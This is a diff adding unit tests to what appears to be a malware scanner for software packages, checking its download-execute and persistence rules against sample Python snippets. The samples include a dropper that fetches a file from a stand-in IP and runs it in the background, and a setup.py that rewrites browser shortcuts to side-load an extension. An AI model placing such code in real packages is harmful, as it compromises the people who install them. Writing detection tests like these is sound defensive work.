@@ -657,6 +657,74 @@ static void test_rules_behave__more_shapes(void **state)
 		LG_SEV_HIGH);
 }
 
+/* A dropper that marks its download executable and starts it through a
+ * shell in the background (chmod +x, trailing &). */
+static void test_rules_behave__download_shell_start(void **state)
+{
+	(void)state;
+	assert_int_equal(
+		scan_sev("pkg/fetch.py",
+			 "import os, requests\n"
+			 "def stage(name):\n"
+			 "    rq = requests.get(f'http://203.0.113.7/{name}')\n"
+			 "    with open(name, 'wb') as f:\n"
+			 "        f.write(rq.content)\n"
+			 "    os.system(f'chmod +x {name}')\n"
+			 "    os.system(f'./{name} &')\n"
+			 "stage('agent')\n",
+			 LG_RULE_DOWNLOAD_EXEC),
+		LG_SEV_HIGH);
+	/* near miss: a release tarball from GitHub, unpacked with a shell. */
+	assert_int_equal(
+		scan_sev("pkg/fetch.py",
+			 "import os, requests\n"
+			 "def stage(dest):\n"
+			 "    rq = requests.get('https://github.com/o/r/archive/v1.tar.gz')\n"
+			 "    open(dest, 'wb').write(rq.content)\n"
+			 "    os.system(f'tar xf {dest} && chmod +x r-1/configure')\n"
+			 "stage('r.tgz')\n",
+			 LG_RULE_DOWNLOAD_EXEC),
+		-1);
+}
+
+/* Shortcuts of browsers rewritten to side-load an extension (the clipboard
+ * hijackers' persistence). */
+static void test_rules_behave__shortcut_extension(void **state)
+{
+	(void)state;
+	assert_int_equal(
+		scan_sev("demo-1.0/setup.py",
+			 "import os\n"
+			 "from win32com.client import Dispatch\n"
+			 "shell = Dispatch('WScript.Shell')\n"
+			 "for root, dirs, files in os.walk(os.getenv('APPDATA')):\n"
+			 "    for f in files:\n"
+			 "        if f.endswith('.lnk'):\n"
+			 "            lnk = shell.CreateShortcut(os.path.join(root, f))\n"
+			 "            lnk.Arguments = '--load-extension=C:\\\\x'\n"
+			 "            lnk.Save()\n",
+			 LG_RULE_PERSIST),
+		LG_SEV_CRITICAL);
+	/* near misses: a desktop shortcut made by an installer helper, and a
+	 * browser-automation library that loads its own extension. */
+	assert_int_equal(
+		scan_sev("pkg/shortcut.py",
+			 "from win32com.client import Dispatch\n"
+			 "def make(target, path):\n"
+			 "    s = Dispatch('WScript.Shell').CreateShortcut(path)\n"
+			 "    s.TargetPath = target\n"
+			 "    s.Save()\n",
+			 LG_RULE_PERSIST),
+		-1);
+	assert_int_equal(
+		scan_sev("pkg/driver.py",
+			 "def options(o, ext):\n"
+			 "    open(ext + '/manifest.json', 'w').write('{}')\n"
+			 "    o.add_argument('--load-extension=' + ext)\n",
+			 LG_RULE_PERSIST),
+		-1);
+}
+
 int test_rules_behave_group(void)
 {
 	const struct CMUnitTest tests[] = {
@@ -676,6 +744,8 @@ int test_rules_behave_group(void)
 		cmocka_unit_test(test_rules_behave__contexts),
 		cmocka_unit_test(test_rules_behave__allowed_build_shapes),
 		cmocka_unit_test(test_rules_behave__more_shapes),
+		cmocka_unit_test(test_rules_behave__download_shell_start),
+		cmocka_unit_test(test_rules_behave__shortcut_extension),
 	};
 
 	return cmocka_run_group_tests_name("rules_behave", tests, NULL, NULL);
